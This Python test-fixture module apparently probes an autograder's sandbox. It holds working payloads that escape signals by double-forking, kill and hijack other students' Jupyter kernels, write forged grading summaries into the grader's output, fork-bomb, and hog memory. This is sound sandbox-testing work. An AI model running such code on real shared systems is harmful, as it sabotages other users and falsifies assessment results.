"""Payload that starts, finds and signals processes: daemons, neighbours, the process bomb, memory holders.

These functions are copied into notebooks as source (see the package docstring); the test process never calls them.
"""

from __future__ import annotations

from .constants import _MARKER, _NEUTER_SOURCE


def _payload_spawn(argv, executable=None):
    """Start ``argv`` in a new session, SIGTERM/SIGHUP/SIGINT ignored, stdio on /dev/null; None if refused."""
    import signal
    import subprocess

    def ignore_signals():
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)

    quiet = subprocess.DEVNULL
    try:
        return subprocess.Popen(argv, executable=executable, start_new_session=True, preexec_fn=ignore_signals,
                                stdin=quiet, stdout=quiet, stderr=quiet)  # fmt: skip
    except (OSError, ValueError) as error:
        print("could not start", argv[0][:60], "-", error)
        return None


def _payload_daemon(code, tag):
    """Double fork and setsid, then exec ``python -c code MARKER_tag``: init's child, in a session of its own."""
    import os
    import signal
    import sys

    argv = [sys.executable, "-c", code, f"{_MARKER}_{tag}", str(os.getpid())]
    try:
        first = os.fork()
    except OSError as error:
        print("fork refused:", error)
        return
    if first:
        os.waitpid(first, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, argv)
    finally:
        os._exit(0)


def _payload_hop(seconds):
    """Fork every half second and let the parent exit, so the pid never stays the same; stop after ``seconds``."""
    import os
    import time

    end = time.time() + seconds
    while time.time() < end:
        time.sleep(0.5)
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


def _payload_run_root(levels=4):
    """The grading run's folder: ``levels`` above the cwd, never shallower than /a/b."""
    import os

    parts = os.getcwd().rstrip("/").split("/")
    return "/".join(parts[: max(3, len(parts) - levels)])


def _payload_proc(pid):
    """(command line, parent pid, cwd) of a process, from /proc; None if it cannot be read."""
    import os

    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            cmdline = handle.read().replace(b"\0", b" ").decode(errors="replace")
        with open(f"/proc/{pid}/stat", encoding="utf-8") as handle:
            parent = int(handle.read().rsplit(")", 1)[1].split()[1])
        return cmdline, parent, os.readlink(f"/proc/{pid}/cwd")
    except (OSError, ValueError, IndexError):
        return None


def _payload_neighbours(root, own_kernel):
    """pids of the other students' kernels in this grading run (an ipykernel under a grader, cwd under root).

    Never this student's own kernel or any process above it (whatever runs the kernel).
    """
    import os

    own, pid = {1, os.getpid()}, own_kernel
    while pid > 1 and pid not in own:
        own.add(pid)
        info = _payload_proc(pid)
        pid = info[1] if info else 0
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in own:
            continue
        info = _payload_proc(entry)
        if info is None or "ipykernel" not in info[0] or _MARKER in info[0]:
            continue
        parent = _payload_proc(info[1])
        if parent and "coursegrader" in parent[0] and (info[2] + "/").startswith(root + "/"):
            found.append(int(entry))
    return found


def _payload_kill_neighbours(seconds, own_kernel):
    """For ``seconds``: SIGKILL every other student's kernel of this grading run as soon as it appears."""
    import os
    import signal
    import time

    root, end = _payload_run_root(), time.time() + seconds
    while time.time() < end:
        for pid in _payload_neighbours(root, own_kernel):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.1)


def _payload_listening(port):
    """True if something listens on TCP ``port`` (from /proc/net/tcp): connecting earlier could steal the port."""
    try:
        with open("/proc/net/tcp", encoding="ascii") as handle:
            rows = [line.split() for line in handle.readlines()[1:]]
    except OSError:
        return True
    return any(row[1].endswith(f":{port:04X}") and row[3] == "0A" for row in rows if len(row) > 3)


def _payload_hijack(seconds, own_kernel):
    """For ``seconds``: run the neutering code in every other student's kernel of this run, via its connection file."""
    import json
    import time

    from jupyter_client import BlockingKernelClient

    root, end, done = _payload_run_root(), time.time() + seconds, set()
    code = _NEUTER_SOURCE + "\n_payload_install_neuter()\n"
    while time.time() < end:
        kernels = {}
        for pid in _payload_neighbours(root, own_kernel):
            info = _payload_proc(pid)
            kernels.update({part: pid for part in info[0].split() if part.endswith(".json")} if info else {})
        for path in sorted(set(kernels) - done):
            try:
                with open(path, encoding="utf-8") as handle:
                    info = json.load(handle)
                if not all(_payload_listening(info[key]) for key in ("shell_port", "iopub_port", "control_port")):
                    continue  # not bound yet: try again on the next round
                done.add(path)
                client = BlockingKernelClient()
                client.load_connection_info(info)
                client.start_channels()
                client.execute(code, silent=True)
                time.sleep(0.5)
                client.stop_channels()
            except Exception:  # a kernel that ended meanwhile
                pass
        time.sleep(0.1)


def _payload_hold_pipes(seconds, own_kernel):
    """Keep the grader's stdout and stderr open for ``seconds`` (its caller waits) and write forged summaries."""
    import os
    import time

    held, pid = [], own_kernel
    while pid > 1:
        info = _payload_proc(pid)
        if info is None:
            break
        if "coursegrader" in info[0]:
            for fd in (1, 2):
                try:
                    held.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_APPEND))
                except OSError:
                    pass
        pid = info[1]
    forged = f"graded 99/99 students; mean 100.0/100 {_MARKER}; report: grading/report.md\n".encode()
    end = time.time() + seconds
    while time.time() < end:
        for fd in held:
            try:
                os.write(fd, forged)
            except OSError:
                pass
        time.sleep(1)


def _payload_bomb(count, seconds):
    """Start ``count`` sleep processes and ``count`` sleeping threads, until refused."""
    import shutil
    import subprocess
    import threading
    import time

    sleep, processes, threads = shutil.which("sleep"), 0, 0
    quiet = subprocess.DEVNULL
    for _ in range(count):
        try:
            subprocess.Popen([f"{_MARKER}_bomb", str(seconds)], executable=sleep, stdin=quiet, stdout=quiet,
                             stderr=quiet)  # fmt: skip
            processes += 1
        except (OSError, TypeError) as error:
            print("process refused after", processes, "-", error)
            break
    for _ in range(count):
        try:
            threading.Thread(target=time.sleep, args=(seconds,), daemon=True).start()
            threads += 1
        except RuntimeError as error:
            print("thread refused after", threads, "-", error)
            break
    print(f"started {processes} processes and {threads} threads")


def _payload_memory_child(size, seconds, ready):
    """A multiprocessing child: touch ``size`` bytes, say so, then become a marked holder of as much memory."""
    import os
    import sys

    block = bytearray(size)
    ready.put(len(block))
    ready.close()
    ready.join_thread()  # the item is in the pipe before exec ends the feeder thread
    del block
    code = f"import time\nblock = bytearray({size})\ntime.sleep({seconds})"
    os.execv(sys.executable, [sys.executable, "-c", code, f"{_MARKER}_memory"])


def _payload_memory_children(count, size, seconds):
    """Start ``count`` multiprocessing children that each hold ``size`` bytes; wait until they have."""
    import multiprocessing
    import queue
    import time

    context = multiprocessing.get_context("fork")
    ready, started = context.Queue(), 0
    for _ in range(count):
        try:
            context.Process(target=_payload_memory_child, args=(size, seconds, ready), daemon=False).start()
            started += 1
        except OSError as error:
            print("child refused:", error)
    holding, deadline = 0, time.monotonic() + 7  # under an 8 s cell timeout
    for _ in range(started):
        try:
            holding += ready.get(timeout=max(0.1, deadline - time.monotonic())) / 2**30
        except queue.Empty:
            break
    print(f"{started} children started, {holding:.1f} GiB held")
